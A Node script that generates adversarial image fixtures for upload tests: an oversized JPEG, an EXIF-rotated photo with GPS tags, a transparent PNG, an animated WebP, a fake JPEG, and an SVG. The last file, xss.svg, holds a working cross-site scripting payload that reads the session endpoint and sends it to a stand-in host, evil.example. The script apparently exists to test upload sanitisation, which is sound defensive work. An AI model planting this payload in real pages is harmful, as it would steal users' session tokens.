// Writes the adversarial image fixtures to tests/fixtures/images/. They are committed (a few hundred KB in all);
// run again only to change them: node scripts/generate-image-fixtures.ts
import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import sharp from "sharp";
import { brickWall } from "./support/synthetic-photo.ts";

const dir = path.resolve("tests/fixtures/images");
mkdirSync(dir, { recursive: true });

// A landscape photo just over 256 KB, so the browser's upload takes the resumable path.
await sharp(brickWall(1600, 1067), { raw: { width: 1600, height: 1067, channels: 3 } })
  .jpeg({ quality: 80 })
  .toFile(path.join(dir, "landscape.jpg"));

// A phone photo held upright: stored sideways with EXIF Orientation 6, a GPS position, an ICC profile and XMP.
// Upright it is 480x640 with a red block in its top-left corner; the stored pixels are that turned a quarter anticlockwise.
const upright = await sharp({ create: { width: 480, height: 640, channels: 3, background: "#2050c0" } })
  .composite([{ input: { create: { width: 160, height: 160, channels: 3, background: "#e02020" } }, left: 0, top: 0 }])
  .png()
  .toBuffer();
await sharp(upright)
  .rotate(-90)
  .jpeg({ quality: 90 })
  .withMetadata({ orientation: 6 })
  .withExifMerge({
    IFD0: { Make: "FixturePhone", Model: "Model 6" },
    // sharp writes GPS tags from IFD3.
    IFD3: { GPSLatitudeRef: "N", GPSLatitude: "52/1 34/1 2/1", GPSLongitudeRef: "W", GPSLongitude: "0/1 14/1 25/1" },
  })
  .withIccProfile("p3")
  .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>')
  .toFile(path.join(dir, "exif-rotated.jpg"));

// Tiny, with transparency: the JPEG variant must get a white background, not black.
await sharp({ create: { width: 24, height: 16, channels: 4, background: { r: 0, g: 128, b: 0, alpha: 0.5 } } })
  .png()
  .toFile(path.join(dir, "tiny.png"));

// Three frames; only the first is kept.
const frames = ["#ff0000", "#00ff00", "#0000ff"].map((colour) =>
  sharp({ create: { width: 32, height: 32, channels: 3, background: colour } }).raw().toBuffer(),
);
await sharp(Buffer.concat(await Promise.all(frames)), { raw: { width: 32, height: 96, channels: 3, pageHeight: 32 } })
  .webp({ loop: 0, delay: [200, 200, 200] })
  .toFile(path.join(dir, "animated.webp"));

writeFileSync(path.join(dir, "not-really.jpg"), "This is a text file wearing a .jpg name.\n");
writeFileSync(
  path.join(dir, "xss.svg"),
  `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.cookie)">
  <script>fetch('/api/auth/session').then((r) => r.text()).then((t) => new Image().src = 'https://evil.example/?' + t)</script>
  <rect width="100" height="100" fill="red"/>
</svg>
`,
);
console.log(`fixtures written to ${path.relative(process.cwd(), dir)}/`);
